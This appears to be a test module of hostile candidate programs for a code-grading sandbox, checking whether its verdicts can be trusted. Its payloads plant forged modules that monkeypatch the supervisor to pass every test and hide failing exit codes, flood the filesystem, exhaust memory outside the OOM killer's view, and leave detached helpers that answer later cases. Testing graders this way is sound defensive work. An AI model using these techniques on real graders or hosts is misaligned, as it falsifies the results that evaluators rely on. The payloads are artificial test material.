"""Attacks on what a verdict trusts beyond the candidate's own process: the supervisor's imports, the cleanup
after a run, the memory the run shares with the sandbox's own processes, and the per-case cleanup of
stdin/stdout runs. Each runs on every sandbox path with the rest of the suite (hostile_programs.py for the
local backend inside the disposable boundary, tests/sandbox/docker/test_docker_hostile.py for docker).

Same targets as hostile_cases.py: ``f(x) == 2 * x + 1``, or the stdin/stdout doubling task.
"""

from __future__ import annotations

from hostile_cases import Hostile

# Real HumanEval checks import these in the tests, which run in the supervisor.
IMPORTING_REF = (
    "import random, string, copy, fractions, statistics, decimal, datetime, typing, hashlib, difflib\n"
    "import calendar, heapq, bisect, textwrap, collections, functools, itertools, operator, re, json, math\n"
    "assert f(2) == 5\nassert f(10) == 21\nassert f(-1) == -1\n"
)

# What a module planted where the supervisor might import it runs in the supervisor: pass every test, switch
# off the supervisor's own checks, and say so on stderr.
_FORGE = (
    "import sys\\n"
    "for _m in list(sys.modules.values()):\\n"
    "    _r = getattr(_m, 'Recorder', None)\\n"
    "    if isinstance(_r, type) and hasattr(_r, 'commit'):\\n"
    "        _o = _r.__call__\\n"
    "        _r.__call__ = lambda self, i, v, e, _o=_o: _o(self, i, True, None)\\n"
    "    _c = getattr(_m, 'Checker', None)\\n"
    "    if isinstance(_c, type):\\n"
    "        _c.before_report = _c.between_cases = lambda self: None\\n"
    "sys.stderr.write('PLANTED CODE RAN IN THE SUPERVISOR\\\\n')\\n"
)
_STDLIB_NAMES = (
    "random string copy fractions statistics decimal datetime typing hashlib difflib calendar heapq bisect "
    "textwrap collections functools itertools operator re json math linecache warnings traceback tokenize "
    "inspect ctypes struct base64 binascii zlib numbers enum dataclasses abc types keyword unicodedata cmath "
    "array code_invariants code_recorder code_wire code_procs code_io_cases code_supervisor code_runner"
)
PLANT_EVERYWHERE = f"""
import os, sys
names = {_STDLIB_NAMES!r}.split()
places = {{os.getcwd(), '/tmp', '/dev/shm', '/var/tmp', os.path.expanduser('~'), os.path.dirname(sys.executable)}}
places.update(p for p in sys.path if p)
for place in places:
    for name in names:
        for path in (os.path.join(place, name + '.py'), os.path.join(place, name, '__init__.py')):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, 'w') as fh:
                    fh.write("{_FORGE}")
            except OSError:
                pass
def f(x):
    return 0
"""

# Cleanup that costs more than the run: many empty dirs in one dir (a wipe that re-lists the dir after each
# removal is quadratic), deep chains, many files; in every place the run may write.
MANY_DIRS = """
import os
for top in (os.getcwd(), '/tmp', '/dev/shm'):
    try:
        base = os.path.join(top, 'many')
        os.mkdir(base)
        for i in range(10000):
            os.mkdir(os.path.join(base, str(i)))
    except OSError:
        pass
def f(x):
    return 0
"""
MANY_FILES = """
import os
for top in (os.getcwd(), '/tmp', '/dev/shm'):
    for i in range(6000):
        try:
            open(os.path.join(top, 'f%d' % i), 'w').close()
        except OSError:
            break
def f(x):
    return 0
"""

# Memory the OOM killer cannot pin on the run's processes (System V segments, pipe buffers), after the run has
# lowered its own OOM score: the OOM kill may then take a sandbox process, which must not turn the run into a
# retryable infrastructure failure.
UNATTRIBUTED_MEMORY = """
import ctypes, os
try:
    with open('/proc/self/oom_score_adj', 'w') as fh:
        fh.write('0')
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(64):
    seg = libc.shmget(0, 16 << 20, 0o1600)
    if seg < 0:
        break
    addr = libc.shmat(seg, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(addr, 1, 16 << 20)
    libc.shmdt(ctypes.c_void_p(addr))
pipes = []
try:
    while True:
        r, w = os.pipe()
        os.set_blocking(w, False)
        try:
            while True:
                os.write(w, b'x' * 65536)
        except BlockingIOError:
            pass
        pipes.append((r, w))
except OSError:
    pass
hog = []
try:
    while True:
        hog.append(bytearray(8 << 20))
except MemoryError:
    pass
def f(x):
    return 0
"""

# A helper forked in the first stdin/stdout case, detached into its own session, that would answer later cases.
_HELPER_NAME = "\\0rk-hostile-helper"
DETACHED_HELPER = f"""
import os, socket, sys, time
value = int(sys.stdin.readline())
try:
    probe = socket.socket(socket.AF_UNIX)
    probe.connect("{_HELPER_NAME}")
    print(probe.recv(64).decode().strip())
except OSError:
    print(-1)  # no helper: this case is answered wrong
    sys.stdout.flush()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):  # the case's pipes: its output ends when the case does
                os.dup2(null, fd)
            server = socket.socket(socket.AF_UNIX)
            server.bind("{_HELPER_NAME}")
            server.listen(8)
            end = time.monotonic() + 20
            while time.monotonic() < end:
                conn, _ = server.accept()
                conn.sendall(b"14\\n")
                conn.close()
        os._exit(0)
"""
HELPER_REF = {"inputs": ["3\n", "7\n", "7\n"], "outputs": ["-1\n", "14\n", "14\n"]}

# What a module planted where a restarted warm case runner might import it would do there: stand in for the
# real module (so the runner still works) and report every case's exit status as 0, so that a case printing
# the right answer and then failing would pass.
_FORGE_STATUS = (
    "import os, sys\\n"
    "_at = os.path.dirname(os.path.abspath(__file__))\\n"
    "_at = os.path.dirname(_at) if __file__.endswith('__init__.py') else _at\\n"
    "sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != _at]\\n"
    "del sys.modules[__name__]\\n"
    "sys.modules[__name__] = __import__(__name__)\\n"
    "_w = os.waitpid\\n"
    "os.waitpid = lambda pid, flags, _w=_w: (_w(pid, flags)[0], 0)\\n"
    "sys.stderr.write('PLANTED CODE RAN IN THE CASE RUNNER\\\\n')\\n"
)
_RUNNER_NAMES = (
    "json socket signal atexit traceback collections heapq bisect itertools functools math re string operator "
    "code_case_runner code_procs code_wire linecache tokenize types"
)
# Every case answers right and then exits 1 (so each deserves nothing), after planting the forgery wherever it
# can write (the harness dir and the runner's own file too, if it could) and leaving a process behind, so that
# the supervisor kills the warm process with it and the next case's runner is a new one.
RESTART_INTO_PLANTED = f"""
import os, sys, time
value = int(sys.stdin.readline())
names = {_RUNNER_NAMES!r}.split()
places = {{os.getcwd(), '/tmp', '/dev/shm', '/var/tmp', os.path.expanduser('~'), os.path.dirname(sys.executable)}}
places.update(p for p in sys.path if p)
places.add(os.path.dirname(os.path.abspath(sys.argv[0] or '.')))
try:
    with open('/proc/%d/cmdline' % os.getppid(), 'rb') as fh:
        places.update(os.path.dirname(a.decode()) for a in fh.read().split(bytes(1)) if a.startswith(b'/'))
except OSError:
    pass
for place in places:
    for name in names:
        for path in (os.path.join(place, name + '.py'), os.path.join(place, name, '__init__.py')):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, 'w') as fh:
                    fh.write("{_FORGE_STATUS}")
            except OSError:
                pass
print(2 * value)
sys.stdout.flush()
if os.fork() == 0:  # left behind: the supervisor then kills every process of the run, the warm one too
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    time.sleep(30)
    os._exit(0)
sys.exit(1)
"""
RESTART_REF = {"inputs": ["3\n", "7\n", "11\n"], "outputs": ["6\n", "14\n", "22\n"]}

TRUST_CASES = [
    Hostile("planted_modules_everywhere_forge_the_supervisor", PLANT_EVERYWHERE, reference=IMPORTING_REF),
    Hostile("ten_thousand_dirs_in_every_writable_place", MANY_DIRS),
    Hostile("thousands_of_files_in_every_writable_place", MANY_FILES),
    Hostile(
        "unattributed_memory_after_lowering_its_oom_score",
        UNATTRIBUTED_MEMORY,
        statuses=("memory_limit", "runtime_error", "ok", "timeout"),
    ),
    # only the first case is right on its own; the others pass only if the helper survived the case before
    Hostile("detached_helper_answers_later_cases", DETACHED_HELPER, reference=HELPER_REF, earned=1 / 3),
    Hostile("planted_modules_await_the_restarted_case_runner", RESTART_INTO_PLANTED, reference=RESTART_REF),
]
